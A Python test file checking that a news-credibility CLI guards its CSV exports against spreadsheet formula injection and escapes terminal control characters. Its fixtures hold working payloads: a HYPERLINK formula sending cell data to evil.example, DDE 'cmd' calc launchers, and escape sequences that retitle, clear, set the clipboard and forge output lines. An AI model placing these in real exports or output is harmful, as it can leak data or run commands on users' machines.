"""Output neutralisation (issue #18, item 2): spreadsheet formulas in CSV cells, control characters on a terminal.

Every hostile value here comes in through user input (a table's id, title and site columns, a file name),
and every test fails on the writers before the fix: the cells were written as they came, and the table
format printed ids, errors and source names raw.
"""

from __future__ import annotations

import csv
import io
import json

import pandas as pd
import pytest
from click.testing import CliRunner

from credibility.cli import app
from credibility.dashboard_app.results import to_csv_bytes
from credibility.output import (
    FORMULA_STARTS,
    CsvWriter,
    csv_columns,
    csv_guard,
    csv_unguard,
    terminal_safe,
    write_aggregates,
)
from credibility.report import Report, Score
from credibility.resume import prepare_resume
from credibility.table import TableWriter

TEXT = "The council approved the budget on Tuesday, the mayor said. Critics say it may possibly fail."
FORMULAS = {
    "eq": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "plus": "+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
}
# Table readers strip the whitespace around ids and titles, so tab and CR starts reach the writers only
# from other fields or the API: the CLI tests use the other four.
FROM_TABLES = {k: v for k, v in FORMULAS.items() if k not in ("tab", "cr")}
# ESC ] 0 ; title BEL (retitle), ESC [ 2 J (clear), OSC 52 (clipboard), C1 CSI, a forged verdict line.
HOSTILE_ID = "x\x1b]0;pwned\x07\x1b[2J\x1b]52;c;ZXZpbA==\x07\x9b31m\r\nai: 0.01 human  credibility: 99/100"


def run(*args):
    return CliRunner().invoke(app, ["score", *map(str, args)])


def rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


@pytest.fixture
def hostile_table(tmp_path):
    """A CSV input whose id, title and site cells are spreadsheet formulas."""
    path = tmp_path / "in.csv"
    pd.DataFrame(
        {
            "id": list(FROM_TABLES.values()),
            "title": list(FROM_TABLES.values()),
            "site": [f"=cmd{i}" for i in range(len(FROM_TABLES))],
            "text": [TEXT] * len(FROM_TABLES),
        }
    ).to_csv(path, index=False)
    return path


# --- CSV: formula cells prefixed with ' -------------------------------------------------------------------


@pytest.mark.parametrize("value", FORMULAS.values(), ids=FORMULAS.keys())
def test_csv_guard_prefixes_every_formula_start(value):
    assert value.startswith(FORMULA_STARTS)
    assert csv_guard(value) == "'" + value
    assert csv_unguard(csv_guard(value)) == value


@pytest.mark.parametrize("value", ["plain", "", "'quoted", "a=b", " =1", "2026-03-12", "{\"a\": -1}", "''x"])
def test_csv_guard_leaves_harmless_text(value):
    assert csv_guard(value) == value
    assert csv_unguard(value) == value


@pytest.mark.parametrize("value", ["'=1+1", "''-2", "'@x"])
def test_values_already_quoted_before_a_formula_get_one_more_quote_and_read_back_exactly(value):
    assert csv_guard(value) == "'" + value
    assert csv_unguard(csv_guard(value)) == value


@pytest.mark.parametrize("value", [-3.5, -1, 0, 42.0, True, None])
def test_numbers_are_never_guarded(value):
    assert csv_guard(value) is value


def test_format_csv_prefixes_formula_cells_and_keeps_scores_numeric(hostile_table):
    result = run(hostile_table, "--format", "csv", "--no-model", "-q")
    assert result.exit_code == 0, result.output
    records = rows(result.stdout)
    assert [r["id"] for r in records] == ["'" + v for v in FROM_TABLES.values()]
    assert [r["title"] for r in records] == ["'" + v for v in FROM_TABLES.values()]
    assert all(r["site"].startswith("'=cmd") for r in records)
    for record in records:  # numeric columns we write stay plain numbers
        assert int(record["word_count"]) > 0
        assert all(not value.startswith("'") for key, value in record.items() if "." in key)


def test_csv_writer_guards_tab_and_carriage_return_starts():
    report = Report(id="\t=1+1", lang="en", supported=True, word_count=10, title="\r=2+2", author="@me")
    buffer = io.StringIO()
    CsvWriter(buffer).write(report)
    [record] = rows(buffer.getvalue())
    assert (record["id"], record["title"], record["author"]) == ("'\t=1+1", "'\r=2+2", "'@me")


def test_a_lone_carriage_return_in_a_cell_cannot_start_a_new_row():
    """Before, a cell with CR but no LF was written unquoted: readers split the record there, so a title
    like "x\\r=HYPERLINK(...)" became a second row whose first cell a spreadsheet would run."""
    report = Report(id="a", lang="en", supported=True, word_count=10, title="x\r=HYPERLINK(\"http://e.example\")")
    buffer = io.StringIO()
    CsvWriter(buffer).write(report)
    assert len(list(csv.reader(io.StringIO(buffer.getvalue(), newline=None)))) == 2  # header + one record
    [record] = rows(buffer.getvalue())
    assert record["title"] == "x\r=HYPERLINK(\"http://e.example\")"
    aggregates = io.StringIO()
    write_aggregates([{"source": "a\r=1+1", "articles": 1}], "csv", aggregates)
    assert [r["source"] for r in rows(aggregates.getvalue())] == ["a\r=1+1"]


def test_negative_feature_values_stay_numbers():
    report = Report(id="a", lang="en", supported=True, word_count=10)
    column = next(c for c in csv_columns() if "." in c)
    report.features = {column: -0.25}
    buffer = io.StringIO()
    CsvWriter(buffer).write(report)
    [record] = rows(buffer.getvalue())
    assert record[column] == "-0.25"


def test_no_csv_guard_writes_cells_as_they_are(hostile_table):
    result = run(hostile_table, "--format", "csv", "--no-model", "-q", "--no-csv-guard")
    assert result.exit_code == 0, result.output
    assert [r["id"] for r in rows(result.stdout)] == list(FROM_TABLES.values())


def test_the_option_is_documented_in_the_help():
    help_text = " ".join(run("--help").output.split())
    assert "--no-csv-guard" in help_text and "formula" in help_text and "OWASP" in help_text


def test_by_source_csv_prefixes_source_names(hostile_table):
    result = run(hostile_table, "--by-source", "--format", "csv", "--no-model", "-q")
    assert result.exit_code == 0, result.output
    records = rows(result.stdout)
    assert sorted(r["source"] for r in records) == sorted(f"'=cmd{i}" for i in range(len(FROM_TABLES)))
    assert all(r["articles"] == "1" for r in records)
    raw = run(hostile_table, "--by-source", "--format", "csv", "--no-model", "-q", "--no-csv-guard")
    assert sorted(r["source"] for r in rows(raw.stdout)) == sorted(f"=cmd{i}" for i in range(len(FROM_TABLES)))


def test_write_aggregates_guards_text_but_not_figures():
    buffer = io.StringIO()
    row = {"source": "@evil", "articles": 2, "failed": 0, "credibility_p50": -1.5, "boilerplate_kinds": []}
    write_aggregates([row], "csv", buffer)
    [record] = rows(buffer.getvalue())
    assert record == {"source": "'@evil", "articles": "2", "failed": "0", "credibility_p50": "-1.5",
                      "boilerplate_kinds": "[]"}


def test_dashboard_csv_download_is_guarded():
    report = Report(id="=1+1", lang="en", supported=True, word_count=10, title="+SUM(A1)", site="-x")
    [record] = rows(to_csv_bytes([report]).decode("utf-8"))
    assert (record["id"], record["title"], record["site"]) == ("'=1+1", "'+SUM(A1)", "'-x")


def test_resume_reads_guarded_ids_back(hostile_table, tmp_path):
    out = tmp_path / "out.csv"
    first = run(hostile_table, "--format", "csv", "-o", out, "--no-model", "-q")
    assert first.exit_code == 0, first.output
    assert prepare_resume(out, "csv").records == len(FROM_TABLES)
    second = CliRunner().invoke(
        app, ["score", str(hostile_table), "--format", "csv", "-o", str(out), "--resume", "--no-model"]
    )
    assert second.exit_code == 0, second.output
    assert f"{len(FROM_TABLES)} skipped" in second.stderr
    assert len(rows(out.read_text(encoding="utf-8"))) == len(FROM_TABLES)


# --- Terminal: control characters escaped ------------------------------------------------------------------


def test_terminal_safe_escapes_controls_and_line_breaks():
    assert terminal_safe("a\x1b[2Jb\x07c\rd\ne\tf\x00g\x7fh\x9bi") == "a\\x1b[2Jb\\x07c\\rd\\ne\\tf\\x00g\\x7fh\\x9bi"
    assert terminal_safe("abc\u202edcba\u2028x") == "abc\\u202edcba\\u2028x"
    assert terminal_safe("Café “quoted” — ok, C:\\path") == "Café “quoted” — ok, C:\\path"


def _has_controls(text: str) -> bool:
    return any((ord(c) < 32 and c != "\n") or 0x7F <= ord(c) <= 0x9F for c in text)


def test_table_escapes_hostile_ids_titles_errors_and_warnings():
    good = Report(id=HOSTILE_ID, lang="en", supported=True, word_count=10, title="T\x1b]0;t\x07")
    good.warnings = ["w\x1b[2J\nforged"]
    good.scores["credibility"] = Score("cred", 40.0, "low credibility", 50.0, [])
    bad = Report(id=HOSTILE_ID, error=f"{HOSTILE_ID}: binary file, not text")
    buffer = io.StringIO()
    writer = TableWriter(buffer)
    writer.write(good)
    writer.write(bad)
    out = buffer.getvalue()
    assert not _has_controls(out)
    lines = out.splitlines()
    assert not any(line.startswith("ai: 0.01") for line in lines)  # the forged verdict line stays inside the id
    assert lines[0].startswith("[1] x\\x1b]0;pwned\\x07\\x1b[2J") and "\\r\\nai: 0.01 human" in lines[0]
    assert "    warning: w\\x1b[2J\\nforged" in lines
    assert any(line.startswith("    ERROR: x\\x1b]0;pwned") for line in lines)


def test_cli_table_escapes_a_hostile_file_name(tmp_path):
    name = "a\x1b]0;pwned\x07\nai: 0.01 human.txt"
    try:
        (tmp_path / name).write_text(TEXT, encoding="utf-8")
    except OSError:  # pragma: no cover - a file system that refuses control characters in names
        pytest.skip("file system refuses control characters in file names")
    (tmp_path / "b\x1b[2J.txt").write_bytes(b"GIF89a\x00\x00")  # unreadable: its error names the file
    result = run(tmp_path, "--no-model")
    assert result.exit_code == 1
    assert not _has_controls(result.stdout) and not _has_controls(result.stderr)
    assert "a\\x1b]0;pwned\\x07\\nai: 0.01 human.txt" in result.stdout
    assert "b\\x1b[2J.txt: binary file, not text" in result.stdout
    # with the records in a file (or another format) errors are also noted on standard error
    noted = run(tmp_path, "--no-model", "--format", "jsonl")
    assert not _has_controls(noted.stderr)
    assert "error: " in noted.stderr and "b\\x1b[2J.txt: binary file" in noted.stderr


def test_by_source_table_escapes_source_names(tmp_path):
    table = tmp_path / "t.jsonl"
    table.write_text(json.dumps({"text": TEXT, "site": "Gazette\x1b]0;pwned\x07\nforged 1 0"}) + "\n",
                     encoding="utf-8")
    result = run(table, "--by-source", "--no-model", "-q")
    assert result.exit_code == 0, result.output
    assert not _has_controls(result.stdout)
    assert len(result.stdout.splitlines()) == 2  # header and one source row
    assert "Gazette\\x1b]0;pwned\\x07\\nforged" in result.stdout


def test_jsonl_keeps_values_exact(hostile_table):
    """JSON lines are data, not a display: ids and titles are kept exactly (JSON escapes controls itself)."""
    result = run(hostile_table, "--format", "jsonl", "--no-model", "-q")
    records = [json.loads(line) for line in result.stdout.splitlines()]
    assert [r["id"] for r in records] == list(FROM_TABLES.values())


def test_compare_text_report_shows_hostile_labels_and_sentences_as_text(tmp_path):
    """`credibility compare` prints site labels, titles and sentences from the user's files: escapes in them
    must be displayed, not obeyed by the terminal."""
    body = ("The council approved the budget on Tuesday, the mayor said. It will cost 4 million euros, "
            "according to the treasurer. Work starts in May. Residents were divided about the plan.")
    for name, site in (("a.md", "Evil\x1b]0;pwned\x07 Wire"), ("b.md", "Second\x1b[2J Post")):
        (tmp_path / name).write_text(f"---\ntitle: Budget\nsite: {site}\nlang: en\n---\n{body}\n", encoding="utf-8")
    result = CliRunner().invoke(app, ["compare", str(tmp_path / "a.md"), str(tmp_path / "b.md")])
    assert result.exit_code == 0, result.output
    assert "\x1b" not in result.output and "\x07" not in result.output
    assert "\\x1b" in result.output
